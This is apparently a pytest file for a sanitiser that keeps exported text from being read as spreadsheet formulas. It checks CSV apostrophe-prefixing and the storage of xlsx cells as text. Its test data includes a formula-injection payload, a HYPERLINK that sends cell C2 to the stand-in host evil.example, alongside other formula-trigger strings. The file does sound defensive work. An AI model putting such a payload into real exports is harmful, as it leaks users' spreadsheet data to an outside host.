"""Exported text never becomes a spreadsheet formula (zhiwang.core.spreadsheet)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from zhiwang.core.spreadsheet import csv_cell, csv_row, xlsx_row

HOSTILE = ['=HYPERLINK("http://evil.example/?"&C2,"点我")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_would_run_starts_with_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


def test_csv_leaves_ordinary_text_and_non_text_alone():
    assert csv_row(["王小明", "138****5678", "南山区 1 号", 42, None, -3]) == [
        "王小明",
        "138****5678",
        "南山区 1 号",
        42,
        None,
        -3,
    ]
    # written and read back, the apostrophe is the only change
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(["=1+2", "x"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2", "x"]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_keeps_the_text_exactly_and_stores_it_as_text(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet() if write_only else book.active
    sheet.append(xlsx_row(sheet, [*HOSTILE, 7, "普通文字"]))
    data = io.BytesIO()
    book.save(data)
    cells = list(
        openpyxl.load_workbook(io.BytesIO(data.getvalue())).worksheets[0].iter_rows(values_only=False)
    )[0]
    assert [c.value for c in cells] == [*HOSTILE, 7, "普通文字"]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    assert cells[len(HOSTILE)].data_type == "n"  # a number stays a number


def test_without_the_helper_openpyxl_would_store_a_formula():
    # the reason the helper exists: guards against openpyxl changing this behaviour unnoticed
    book = openpyxl.Workbook()
    book.active.append(["=1+2"])
    assert book.active["A1"].data_type == "f"
